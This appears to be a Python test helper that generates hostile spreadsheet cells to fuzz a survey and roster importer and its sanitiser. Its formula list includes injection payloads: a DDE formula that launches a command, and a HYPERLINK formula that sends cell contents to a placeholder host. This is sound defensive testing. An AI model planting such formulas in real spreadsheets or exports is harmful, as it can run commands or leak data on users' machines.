"""Hostile spreadsheet cells for the end-to-end test (tests/test_hostile_cells_end_to_end.py).

Strategies draw, for each column of a survey or roster sheet, either the valid value of
tests/import_files.py or something an attacker (or a broken export elsewhere) puts in a
cell: C0 and C1 control characters and NUL, bidi embedding/override/isolate characters,
formula prefixes, very long text, huge and negative numbers, NaN-like text, odd dates
and Excel date serials. A row is either "quiet" — only its text cells are decorated, so
it passes validation and the hostile text reaches the registry, the pages and the
exports — or "loud", where any cell may be hostile and the row usually becomes a row
error that the batch page and the error report quote.

`write_hostile_table` writes such rows as `.xlsx` (control characters as Excel's own
`_xHHHH_` escapes, which is how Excel stores them and how calamine reads them back) or
`.csv` (characters as they are).
"""

import csv
import re
from datetime import date, datetime
from pathlib import Path

from hypothesis import strategies as st
from openpyxl import Workbook

from cases.text import MARKER

from .import_files import ROSTER_HEADER, SURVEY_HEADER, roster_row, survey_row

C0 = [chr(code) for code in range(0x20) if chr(code) not in "\t\n\r"]
C1 = [chr(code) for code in range(0x7F, 0xA0)]
BIDI = [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?q="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+8613900000000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
]
NAN_TEXT = ["NaN", "nan", "-nan", "inf", "-Infinity", "1e309", "-1e309", "#N/A", "#DIV/0!", "null"]
HUGE_NUMBERS = [1e308, -1e308, 1.7976931348623157e308, 5e-324, -0.0, 10**20, -(10**20), 2**63, -1]
ODD_DATES = [
    "0000-00-00",
    "2026-02-30",
    "2026-13-01",
    "2026/2/30",
    "20260230",
    "9999-12-31",
    "1900-02-29",
    "00:00:00",
    0,
    60,
    -1,
    2958466,
    1e10,
    45000.75,
    datetime(9999, 12, 31, 23, 59, 59),
    date(1900, 1, 1),
]
LONG_TEXT = ["甲" * 33000, "=" + "1" * 40000, "\u202e" * 5000]

# Pieces that make up hostile text; joined in twos and threes.
_piece = st.one_of(
    st.sampled_from(C0),
    st.sampled_from(C1),
    st.sampled_from(BIDI),
    st.sampled_from(FORMULAS),
    st.sampled_from(["张", "三", "exe.txt", "gpj", "<b>", "&amp;", "'", '"', " "]),
)
hostile_text = st.lists(_piece, min_size=1, max_size=3).map("".join)
hostile_cell = st.one_of(
    hostile_text,
    st.sampled_from(NAN_TEXT),
    st.sampled_from(HUGE_NUMBERS),
    st.sampled_from(ODD_DATES),
    st.sampled_from(LONG_TEXT),
)

# Columns whose text a valid row may carry decorated (names, places, relations, codes):
# the decoration still passes the importer, so it reaches pages and exports.
TEXT_COLUMNS = {"姓名", "户主姓名", "村（社区）", "村", "成员姓名", "与户主关系", "户编号"}
# A decoration that keeps the value within the importer's length limits (names: 64).
_decoration = st.lists(
    st.one_of(st.sampled_from(C0), st.sampled_from(C1), st.sampled_from(BIDI)),
    min_size=0,
    max_size=2,
).map("".join)


@st.composite
def _decorated(draw, value: str) -> str:
    prefix = draw(st.one_of(_decoration, st.sampled_from(["=", "+", "-", "@"])))
    return prefix + value + draw(_decoration)


@st.composite
def hostile_row(draw, header: list[str], valid: dict) -> dict:
    """One data row: quiet (text cells decorated) or loud (any cell hostile)."""
    loud = draw(st.booleans())
    row = {}
    for column in header:
        value = valid.get(column)
        if loud:
            row[column] = draw(st.one_of(st.just(value), hostile_cell))
        elif column in TEXT_COLUMNS and isinstance(value, str):
            row[column] = draw(_decorated(value))
        else:
            row[column] = value
    return row


@st.composite
def hostile_sheets(draw, first: int, rows: int) -> tuple[list[dict], list[dict]]:
    """Survey and roster rows for persons first … first+rows-1 (the same people in both)."""
    survey = [
        draw(hostile_row(SURVEY_HEADER, survey_row(n, **{"乡镇（街道）": "河口镇"})))
        for n in range(first, first + rows)
    ]
    roster = [
        draw(hostile_row(ROSTER_HEADER, roster_row(n, f"H{n}", 乡镇="河口镇")))
        for n in range(first, first + rows)
    ]
    return survey, roster


_XLSX_UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff_]")


def _excel_escape(value: object) -> object:
    # Excel writes characters XML 1.0 cannot hold as _xHHHH_ (and a literal "_x" as
    # _x005F_x); openpyxl refuses them, so the file is written the way Excel would.
    if not isinstance(value, str):
        return value
    return _XLSX_UNSAFE.sub(
        lambda m: "_x005F_" if m.group() == "_" else f"_x{ord(m.group()):04X}_", value
    )


def write_hostile_table(path: Path, header: list[str], rows: list[dict]) -> Path:
    cells = [list(header)] + [[row.get(column) for column in header] for row in rows]
    if path.suffix == ".xlsx":
        workbook = Workbook()
        sheet = workbook.active
        for line in cells:
            sheet.append([_excel_escape(value) for value in line])
        workbook.save(path)
    else:
        with open(path, "w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle)
            for line in cells:
                writer.writerow(["" if value is None else value for value in line])
    return path


# What no page and no exported cell may hold: the project's sanitiser's set
# (cases/text.py), less the marker it leaves in their place.
UNSAFE_OUTPUT = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff\u202a-\u202e\u2066-\u2069]"
)
assert not UNSAFE_OUTPUT.search(MARKER)
